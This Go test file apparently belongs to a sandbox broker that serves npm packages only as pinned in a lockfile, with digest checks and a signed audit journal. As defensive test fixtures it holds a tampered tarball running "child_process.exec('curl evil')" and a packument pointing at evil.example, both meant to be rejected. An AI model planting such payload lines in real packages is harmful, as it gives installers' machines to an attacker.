package broker

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/moat-sandbox/moat/audit"
	"github.com/moat-sandbox/moat/internal/testenv"
	"github.com/moat-sandbox/moat/policy"
)

// npmTarball builds a package tarball as npm pack does: package/ with a
// package.json and an index.js.
func npmTarball(t testing.TB, name, version, code string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, f := range []struct{ name, body string }{
		{"package/package.json", fmt.Sprintf(`{"name":%q,"version":%q,"main":"index.js"}`, name, version)},
		{"package/index.js", code},
	} {
		if err := tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(f.body))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

// fakeRegistry is a local npm registry over TLS: packuments and tarballs
// the test makes; it records every request and checks each carries a
// pre-effect line already in the journal.
type fakeRegistry struct {
	srv *httptest.Server
	mu  sync.Mutex
	// files maps a path to its body; tampered, when set for a path,
	// replaces it.
	files    map[string][]byte
	tampered map[string][]byte
	reqs     []string
	bad      []string
	verify   func(digest string, req *http.Request) error
}

func (r *fakeRegistry) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.reqs = append(r.reqs, req.Method+" "+req.URL.Path)
	if r.verify != nil {
		err := r.verify(req.Header.Get(packagePreEffectHeader), req)
		if v := req.Header.Values(preEffectHeader); err == nil && len(v) > 0 {
			err = fmt.Errorf("the registry got the journal line itself (%s)", preEffectHeader)
		}
		if err != nil {
			r.bad = append(r.bad, req.URL.Path+": "+err.Error())
		}
	}
	body, ok := r.tampered[req.URL.Path]
	if !ok {
		body, ok = r.files[req.URL.Path]
	}
	if !ok {
		http.NotFound(w, req)
		return
	}
	w.Write(body)
}

// verifyPackageFetch checks an upstream package fetch as a registry
// operator holding the journal would: its Moat-Pre-Effect-SHA256 is the
// digest of a line already in the journal file on disk, that line is
// signed by the run's key and is the package.requested of this very
// fetch (its path is the one requested).
func (j *testJournal) verifyPackageFetch(digest string, req *http.Request) error {
	if len(digest) != 64 || strings.Trim(digest, "0123456789abcdef") != "" {
		return fmt.Errorf("%s %q is not 64 lowercase hex digits", packagePreEffectHeader, digest)
	}
	var line []byte
	for _, l := range j.lines() {
		if audit.LineHash(l) == digest {
			line = l
			break
		}
	}
	if line == nil {
		return fmt.Errorf("no line in the journal file has the digest %s", digest)
	}
	ent, err := audit.VerifyLine(line, j.w.PublicKey())
	if err != nil {
		return err
	}
	rec, ok := ent.Record.(audit.PackageRequested)
	if !ok {
		return fmt.Errorf("the digest names a %s line (seq %d), not a package.requested", ent.Header.Type, ent.Header.Seq)
	}
	path := rec.Path
	if u, err := url.Parse(rec.Path); err == nil && u.Scheme == "https" {
		path = u.EscapedPath()
	}
	if !strings.HasSuffix(req.URL.EscapedPath(), path) && !strings.HasSuffix(req.URL.Path, path) {
		return fmt.Errorf("the digest names the package.requested of %s (seq %d), not of this fetch", rec.Path, ent.Header.Seq)
	}
	return nil
}

func newTLSRegistry(t *testing.T, h http.Handler) *httptest.Server {
	srv := httptest.NewTLSServer(h)
	t.Cleanup(srv.Close)
	return srv
}

func (r *fakeRegistry) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.reqs...)
}

func (r *fakeRegistry) pool() *x509.CertPool {
	p := x509.NewCertPool()
	p.AddCert(r.srv.Certificate())
	return p
}

// npmFixture is a registry with left-pad 1.3.0 (pinned) and 1.4.0 (newer,
// not pinned), a typosquat lefft-pad, and a lockfile pinning left-pad
// 1.3.0 and @s/util 2.0.0.
type npmFixture struct {
	reg      *fakeRegistry
	lockfile string
	lockData []byte
	pins     []NPMPin
	tgz      map[string][]byte
}

func newNPMFixture(t *testing.T) *npmFixture {
	t.Helper()
	f := &npmFixture{reg: &fakeRegistry{files: map[string][]byte{}, tampered: map[string][]byte{}}, tgz: map[string][]byte{}}
	f.reg.srv = newTLSRegistry(t, f.reg)
	add := func(name, version string) string {
		base := name
		if i := strings.LastIndex(name, "/"); i >= 0 {
			base = name[i+1:]
		}
		p := "/" + name + "/-/" + base + "-" + version + ".tgz"
		tgz := npmTarball(t, name, version, fmt.Sprintf("module.exports = %q\n", name+"@"+version))
		f.reg.files[p] = tgz
		f.tgz[name+"@"+version] = tgz
		return p
	}
	lp13 := add("left-pad", "1.3.0")
	lp14 := add("left-pad", "1.4.0")
	add("lefft-pad", "1.3.0")
	su := add("@s/util", "2.0.0")
	f.reg.files["/left-pad"] = []byte(`{"name":"left-pad","dist-tags":{"latest":"1.4.0"},"versions":{` +
		`"1.3.0":{"name":"left-pad","version":"1.3.0","dist":{"tarball":"https://evil.example/left-pad-1.3.0.tgz","shasum":"0"}},` +
		`"1.4.0":{"name":"left-pad","version":"1.4.0","dist":{"tarball":"https://registry.npmjs.org` + lp14 + `"}}}}`)
	f.lockfile = filepath.Join(t.TempDir(), "package-lock.json")
	f.lockData = []byte(`{"name":"app","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{` +
		`"":{"name":"app","version":"1.0.0","dependencies":{"left-pad":"1.3.0","@s/util":"2.0.0"}},` +
		`"node_modules/left-pad":{"version":"1.3.0","resolved":"https://registry.npmjs.org` + lp13 + `","integrity":"` + sri(f.tgz["left-pad@1.3.0"]) + `"},` +
		`"node_modules/@s/util":{"version":"2.0.0","resolved":"https://registry.npmjs.org` + su + `","integrity":"` + sri(f.tgz["@s/util@2.0.0"]) + `"}}}`)
	if err := os.WriteFile(f.lockfile, f.lockData, 0o644); err != nil {
		t.Fatal(err)
	}
	pins, err := ParseNPMLockfile(f.lockfile, f.lockData)
	if err != nil {
		t.Fatal(err)
	}
	f.pins = pins
	return f
}

func (f *npmFixture) harness(t *testing.T) *harness {
	t.Helper()
	fp := newFakeProvider(t, false)
	var h *harness
	h = startBroker(t, fp, testPolicy(fp.srv.URL, 10), nil, func(c *Config) {
		pk, err := NewPackages(PackagesConfig{
			Grants:  []policy.PackageGrant{{Kind: policy.PackageNPM, Upstream: f.reg.srv.URL, Lockfiles: []string{f.lockfile}, LockfileTrust: policy.TrustPinned, MaxRequests: 100}},
			NPM:     f.pins,
			BaseURL: "http://127.0.0.1:1",
			Dial:    testGuard(), RootCAs: f.reg.pool()})
		if err != nil {
			t.Fatal(err)
		}
		c.Packages = pk
	})
	f.reg.verify = h.j.verifyPackageFetch
	t.Cleanup(func() {
		if len(f.reg.bad) > 0 {
			t.Errorf("the registry got requests without a journaled pre-effect line: %v", f.reg.bad)
		}
	})
	return h
}

func pkgGet(path string) string {
	return "GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
}

// TestPackagesNPM: pinned tarballs are served byte for byte after a
// durable package.requested; every attack is refused in the same setup,
// with nothing fetched where nothing may be.
func TestPackagesNPM(t *testing.T) {
	f := newNPMFixture(t)
	h := f.harness(t)
	fetched := func() int { return len(f.reg.requests()) }

	// Positive control: the pinned tarball.
	r := h.raw(pkgGet("/pkg/npm/left-pad/-/left-pad-1.3.0.tgz"))
	if r.status != 200 || r.body != string(f.tgz["left-pad@1.3.0"]) {
		t.Fatalf("pinned tarball: status %d, %d bytes", r.status, len(r.body))
	}
	req := h.records("package.requested")
	if len(req) != 1 || req[0]["name"] != "left-pad" || req[0]["version"] != "1.3.0" || req[0]["expected"] != sri(f.tgz["left-pad@1.3.0"]) ||
		req[0]["artifact"] != "tarball" || req[0]["lockfile"] != f.lockfile {
		t.Errorf("package.requested %v", req)
	}
	if c := h.records("package.completed"); len(c) != 1 || c[0]["body_bytes"] != float64(len(f.tgz["left-pad@1.3.0"])) {
		t.Errorf("package.completed %v", c)
	}
	// Scoped.
	if r := h.raw(pkgGet("/pkg/npm/@s/util/-/util-2.0.0.tgz")); r.status != 200 || r.body != string(f.tgz["@s/util@2.0.0"]) {
		t.Errorf("scoped tarball: status %d %s", r.status, r.body)
	}
	n := fetched()

	refusals := []struct {
		name, in string
		status   int
		reason   Reason
		says     string
	}{
		{"not in lockfile", pkgGet("/pkg/npm/express/-/express-4.0.0.tgz"), 404, ReasonPackageNotPinned, f.lockfile},
		{"typosquat", pkgGet("/pkg/npm/lefft-pad/-/lefft-pad-1.3.0.tgz"), 404, ReasonPackageNotPinned, "not in the lockfile"},
		{"typosquat packument", pkgGet("/pkg/npm/lefft-pad"), 404, ReasonPackageNotPinned, f.lockfile},
		{"newer version", pkgGet("/pkg/npm/left-pad/-/left-pad-1.4.0.tgz"), 404, ReasonPackageVersion, "pins left-pad at 1.3.0 only"},
		{"publish", "PUT /pkg/npm/left-pad HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}", 405, ReasonMethod, "no publish"},
		{"unpublish", "DELETE /pkg/npm/left-pad/-rev/1 HTTP/1.1\r\nHost: x\r\n\r\n", 405, ReasonMethod, "no publish"},
		{"audit", "POST /pkg/npm/-/npm/v1/security/advisories/bulk HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}", 405, ReasonMethod, ""},
		{"registry endpoint", pkgGet("/pkg/npm/-/whoami"), 404, ReasonPackageEndpoint, ""},
		{"other kind", pkgGet("/pkg/pypi/simple/requests/"), 404, ReasonPackageUnknownKind, "grants npm"},
	}
	for _, c := range refusals {
		r := h.raw(c.in)
		if r.status != c.status || r.header.Get("Moat-Reason") != string(c.reason) || !strings.Contains(r.body, c.says) {
			t.Errorf("%s: status %d reason %s body %s; want %d %s mentioning %q", c.name, r.status, r.header.Get("Moat-Reason"), r.body, c.status, c.reason, c.says)
		}
		var body struct{ Error string }
		if json.Unmarshal([]byte(r.body), &body) != nil || body.Error == "" {
			t.Errorf("%s: body %s is not npm's {\"error\": ...}", c.name, r.body)
		}
	}
	if got := fetched(); got != n {
		t.Errorf("refused requests reached the registry: %v", f.reg.requests()[n:])
	}
	if got := len(h.records("package.refused")); got != len(refusals) {
		t.Errorf("%d package.refused records, want %d", got, len(refusals))
	}

	// Tampered tarball: fetched (journaled first), not served.
	f.reg.mu.Lock()
	f.reg.tampered["/left-pad/-/left-pad-1.3.0.tgz"] = npmTarball(t, "left-pad", "1.3.0", "require('child_process').exec('curl evil')")
	f.reg.mu.Unlock()
	r = h.raw(pkgGet("/pkg/npm/left-pad/-/left-pad-1.3.0.tgz"))
	if r.status != 502 || r.header.Get("Moat-Reason") != string(ReasonPackageDigest) || strings.Contains(r.body, "child_process") {
		t.Errorf("tampered tarball: status %d reason %s body %q", r.status, r.header.Get("Moat-Reason"), r.body)
	}
	fl := h.records("package.failed")
	if len(fl) != 1 || fl[0]["reason"] != string(ReasonPackageDigest) || !strings.HasPrefix(fmt.Sprint(fl[0]["got"]), "sha512-") {
		t.Errorf("package.failed %v", fl)
	}
	// Control: the same request is served again once the registry is honest.
	f.reg.mu.Lock()
	delete(f.reg.tampered, "/left-pad/-/left-pad-1.3.0.tgz")
	f.reg.mu.Unlock()
	if r := h.raw(pkgGet("/pkg/npm/left-pad/-/left-pad-1.3.0.tgz")); r.status != 200 {
		t.Errorf("honest tarball after the tampered one: %d", r.status)
	}
	h.j.verifyAll(t)
}

// TestPackagesNPMPackument: the packument is served with only the pinned
// version, its dist rewritten to the broker and the lockfile's integrity
// (the upstream's tarball URL to another host is dropped), latest moved
// to the pin.
func TestPackagesNPMPackument(t *testing.T) {
	f := newNPMFixture(t)
	h := f.harness(t)
	r := h.raw(pkgGet("/pkg/npm/left-pad"))
	if r.status != 200 {
		t.Fatalf("packument: %d %s", r.status, r.body)
	}
	var doc struct {
		Name     string            `json:"name"`
		DistTags map[string]string `json:"dist-tags"`
		Versions map[string]struct {
			Dist map[string]string `json:"dist"`
		} `json:"versions"`
	}
	if err := json.Unmarshal([]byte(r.body), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Versions) != 1 || doc.DistTags["latest"] != "1.3.0" || doc.Name != "left-pad" {
		t.Fatalf("packument %s", r.body)
	}
	d := doc.Versions["1.3.0"].Dist
	if d["tarball"] != "http://127.0.0.1:1/pkg/npm/left-pad/-/left-pad-1.3.0.tgz" || d["integrity"] != sri(f.tgz["left-pad@1.3.0"]) || d["shasum"] != "" {
		t.Errorf("dist %v", d)
	}
	if strings.Contains(r.body, "evil.example") || strings.Contains(r.body, "1.4.0") {
		t.Errorf("packument leaks the upstream's URL or the unpinned version: %s", r.body)
	}
	if rq := h.records("package.requested"); len(rq) != 1 || rq[0]["artifact"] != "metadata" {
		t.Errorf("package.requested %v", rq)
	}
	// A packument naming another package is not served.
	f.reg.mu.Lock()
	f.reg.tampered["/left-pad"] = []byte(`{"name":"evil","versions":{}}`)
	f.reg.mu.Unlock()
	if r := h.raw(pkgGet("/pkg/npm/left-pad")); r.status != 502 || r.header.Get("Moat-Reason") != string(ReasonPackageMetadata) {
		t.Errorf("foreign packument: %d %s", r.status, r.body)
	}
}

// TestPackagesNPMClient: the real npm client installs the lockfile's
// packages through the broker (npm ci), and fails, with nothing
// installed, when the registry serves a tampered tarball.
func TestPackagesNPMClient(t *testing.T) {
	npm, err := exec.LookPath("npm")
	testenv.Need(t, err == nil, "npm is not installed (CI installs nodejs and npm)")
	f := newNPMFixture(t)
	h := f.harness(t)
	run := func() (string, error) {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, "package.json"), []byte(`{"name":"app","version":"1.0.0","dependencies":{"left-pad":"1.3.0","@s/util":"2.0.0"}}`), 0o644)
		os.WriteFile(filepath.Join(dir, "package-lock.json"), f.lockData, 0o644)
		cmd := exec.Command(npm, "ci", "--no-audit", "--no-fund", "--ignore-scripts", "--fetch-retries=0")
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "npm_config_registry=http://"+h.addr+"/pkg/npm/", "npm_config_replace_registry_host=always",
			"npm_config_cache="+filepath.Join(dir, ".cache"), "npm_config_userconfig="+filepath.Join(dir, ".npmrc"), "npm_config_update_notifier=false")
		out, err := cmd.CombinedOutput()
		if err != nil {
			return string(out), err
		}
		b, err := os.ReadFile(filepath.Join(dir, "node_modules", "left-pad", "index.js"))
		if err != nil || !strings.Contains(string(b), "left-pad@1.3.0") {
			return string(out), fmt.Errorf("left-pad not installed: %v %s", err, b)
		}
		return string(out), nil
	}
	if out, err := run(); err != nil {
		t.Fatalf("npm ci: %v\n%s", err, out)
	}
	if c := h.records("package.completed"); len(c) != 2 {
		t.Errorf("npm ci went through the broker %d times, want the 2 pinned tarballs", len(c))
	}
	f.reg.mu.Lock()
	f.reg.tampered["/left-pad/-/left-pad-1.3.0.tgz"] = npmTarball(t, "left-pad", "1.3.0", "evil")
	f.reg.mu.Unlock()
	if out, err := run(); err == nil {
		t.Fatalf("npm ci succeeded against a tampered tarball:\n%s", out)
	}
	if fl := h.records("package.failed"); len(fl) == 0 || fl[0]["reason"] != string(ReasonPackageDigest) {
		t.Errorf("package.failed %v", fl)
	}
}

// TestPackagesFetchSendsDigestOnly: the upstream registry (usually
// public) gets moat's own four headers and no workload header; the
// pre-effect binding is the SHA-256 of the durable package.requested
// line, never the line, which names the lockfile's host path (and the
// executable). Control: that line is in the journal, signed, and does
// name the lockfile, so a header carrying it would leak the path.
func TestPackagesFetchSendsDigestOnly(t *testing.T) {
	f := newNPMFixture(t)
	var mu sync.Mutex
	var hdrs []http.Header
	f.reg.srv.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hdrs = append(hdrs, r.Header.Clone())
		mu.Unlock()
		f.reg.ServeHTTP(w, r)
	})
	h := f.harness(t)
	workload := "Authorization: Bearer npm_workloadtoken\r\nCookie: s=1\r\nUser-Agent: npm/10.0.0 node/v22\r\nAccept: application/vnd.npm.install-v1+json\r\n" +
		"Npm-Session: 0123abcd\r\nReferer: ci /home/alice/secret-project\r\nX-Forwarded-For: 10.0.0.1\r\n"
	for _, p := range []string{"/pkg/npm/left-pad/-/left-pad-1.3.0.tgz", "/pkg/npm/left-pad"} {
		r := h.raw("GET " + p + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + workload + "Connection: close\r\n\r\n")
		if r.status != 200 {
			t.Fatalf("%s with the workload's headers: %d %s", p, r.status, r.body)
		}
	}
	var lines []*audit.Entry
	for _, l := range h.j.lines() {
		if ent, err := audit.VerifyLine(l, h.j.w.PublicKey()); err == nil && ent.Header.Type == "package.requested" {
			lines = append(lines, ent)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(hdrs) != 2 || len(lines) != 2 {
		t.Fatalf("%d fetches and %d package.requested lines, want 2 and 2", len(hdrs), len(lines))
	}
	for i, hd := range hdrs {
		line := lines[i].Line
		if !bytes.Contains(lines[i].Payload, []byte(f.lockfile)) && i == 0 {
			t.Errorf("control: the tarball's package.requested does not name the lockfile %s", f.lockfile)
		}
		var names []string
		for k := range hd {
			names = append(names, k)
		}
		slices.Sort(names)
		want := []string{"Accept", "Accept-Encoding", "User-Agent", http.CanonicalHeaderKey(packagePreEffectHeader)}
		slices.Sort(want)
		if !slices.Equal(names, want) {
			t.Errorf("fetch %d sent headers %v, want exactly %v", i, names, want)
		}
		if d := hd.Get(packagePreEffectHeader); len(d) != 64 || strings.Trim(d, "0123456789abcdef") != "" {
			t.Errorf("fetch %d: %s %q is not just 64 hex digits", i, packagePreEffectHeader, d)
		}
		leaks := []string{f.lockfile, filepath.Dir(f.lockfile), string(line), base64.StdEncoding.EncodeToString(line), string(lines[i].Payload),
			base64.StdEncoding.EncodeToString(lines[i].Payload), "npm_workloadtoken", "alice", "0123abcd"}
		if rec, _ := lines[i].Record.(audit.PackageRequested); rec.Attribution.Executable != "" {
			leaks = append(leaks, rec.Attribution.Executable)
		}
		if got, want := hd.Get(packagePreEffectHeader), audit.LineHash(line); got != want {
			t.Errorf("fetch %d: %s %q, want the sha256 of its package.requested line %s", i, packagePreEffectHeader, got, want)
		}
		if hd.Get("User-Agent") != "moat" || hd.Get("Accept-Encoding") != "identity" {
			t.Errorf("fetch %d: User-Agent %q, Accept-Encoding %q: not moat's", i, hd.Get("User-Agent"), hd.Get("Accept-Encoding"))
		}
		for k, vs := range hd {
			for _, v := range vs {
				for _, leak := range leaks {
					if strings.Contains(v, leak) {
						t.Errorf("fetch %d: header %s: %q carries %q", i, k, v, leak)
					}
				}
			}
		}
	}
}
